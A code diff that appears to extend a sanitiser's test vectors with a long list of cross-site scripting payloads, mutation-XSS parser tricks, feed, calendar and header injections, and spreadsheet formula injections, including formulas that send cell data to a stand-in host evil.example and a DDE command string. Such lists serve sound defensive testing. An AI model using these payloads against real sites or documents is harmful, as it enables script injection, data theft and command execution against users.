@@ -301,4 +301,78 @@ ELEMENTS = (
     "+ADw-script+AD4-xss()+ADw-/script+AD4-",
 )  # fmt: skip
 
-VECTORS = tuple(dict.fromkeys((*SCRIPTS, *QUOTES, *HANDLERS, *TEMPLATES, *LINKS, *ATTRIBUTES, *ELEMENTS)))
+# values that end like the beginning of another attribute, for whoever looks for attributes in finished HTML
+SMUGGLED = (
+    '<a title=" href=" href="/x onmouseover=xss() y=">read</a>',
+    '<a title=" href=/" href="x autofocus onfocus=xss() tabindex=1 y=">read</a>',
+    '<a href=" href=" title="/ onclick=xss() x=">read</a>',
+    '<img title=" src=" src="https://evil.example/x.png" alt="a">',
+    '<img alt=" src=" src="x onerror=xss() y=" title="q">',
+    '![ src=](https://evil.example/x.png "a>b")',
+    '![a" src="](x.png " onerror=xss() x=")',
+    '<p title=" id=" lang="x onclick=xss() y">hi</p>',
+    '<h2 title=" id=" lang="x onclick=xss() y">hi</h2>\n\n<p id="a">',
+    '<div title=" class=" lang="x onclick=xss()">a</div>',
+    '<td title=" scope=" lang="x onclick=xss()">a',
+    '<table title="<table>"><tr><th title="</table></div></main>">x</table>',
+    '<p title="<a href=">x</p><p title="> <img src=x onerror=xss()>">y</p>',
+    '<p title="<h2>" lang="</h2><script>xss()</script>">x</p>',
+    '<img title="x" alt="--><script>xss()</script>" src="a>b.png">',
+    '<abbr title="x">HTML</abbr> <a href="javascript:xss()">y</a> <a href="/">z</a>',
+    '<a name="x"><a href="x" title="</a><img src=x onerror=xss()>">y</a></a>',
+    '<blockquote title=" href=" lang="/"><a title="#" href="#main" id=" href=">x</a></blockquote>',
+    '[a](/x?q= "/ onclick=xss() y=") [b](<x href="/y> "z")',
+    '[a]( /x\\" onclick=xss() )',
+)
+
+# what sanitisers have let through: the tree that is made of it a second time is another one
+MUTATIONS = (
+    '<svg></p><style><g title="</style><img src onerror=xss()>">',
+    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=xss()>"></style></h1>',
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=xss() src>">',
+    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src onerror=xss()>">',
+    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
+    '<svg><title><style><img title="</style><img src onerror=xss()>">',
+    '<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp><img src onerror=xss()></xmp>',
+    '<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src onerror=xss()>">',
+    "<details><summary>&lt;script>xss()&lt;/script></summary></details>",
+    "<p><!-- <img --!><img src=x onerror=xss()> -->",
+    "<p><![CDATA[><img src=x onerror=xss()>]]>",
+    "<? <img src=x onerror=xss()> ?>",
+    "</ <img src=x onerror=xss()> >",
+    '<a href="x\u0000" onclick=xss()>'.replace("\u0000", "&#0;"),
+    "<img src=`x`onerror=xss()>",
+    "<img src='x'onerror='xss()'>",
+    "<im\u200bg src=x onerror=xss()>",
+    "\u212aeygen <\u017fcript>xss()</\u017fcript> <\u0130mg src=x onerror=xss()>",
+    "&lt;img src=x onerror=xss()&gt; &amp;lt;img src=x onerror=xss()&amp;gt;",
+    "\\<script>xss()\\</script>",
+    "<div>\n\n<script>xss()</script>\n\n</div>",
+    "<div markdown=1>\n**<img src=x onerror=xss()>**\n</div>",
+)
+
+# for the other forms: feeds, calendars, tables, JSON in pages, headers
+FORMS = (
+    "]]></description><script xmlns='http://www.w3.org/1999/xhtml'>xss()</script><description><![CDATA[",
+    "</summary></entry><entry><link href='javascript:xss()'/></entry>",
+    "<atom:link href='https://evil.example/'/>",
+    "</script><script>xss()</script><!--",
+    "<!--<script>xss()",
+    "{\"@type\":\"x\"}</script/ x><img src=x onerror=xss()>",
+    "\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:https://evil.example/x\nURL:javascript:xss()",
+    "x\\nATTACH:https://evil.example/x\\;\\,",
+    "x;ALTREP=\"https://evil.example/x\":y",
+    "/*\n  Content-Security-Policy: script-src *\n/x\n  Link: <https://evil.example/x.js>; rel=preload",
+    "Location: https://evil.example/\nSet-Cookie: a=b",
+    "\t=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1", "'=1+1", "\"=1+1\"", "%0A-1+1", "=WEBSERVICE(\"https://evil.example/\")", "@xss()", ";=1+1", "|=1+1", "-2+3+cmd|' /C calc'!A0",
+    "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
+    "\u2028;xss()//\u2029",
+    "<b>\u202ereversed <script>xss()</script>",
+    "\u2067right to left\u2069\u2069\u2069</bdi>",
+)  # fmt: skip
+
+VECTORS = tuple(
+    dict.fromkeys(
+        (*SCRIPTS, *QUOTES, *HANDLERS, *TEMPLATES, *LINKS, *ATTRIBUTES, *ELEMENTS, *SMUGGLED, *MUTATIONS, *FORMS)
+    )
+)
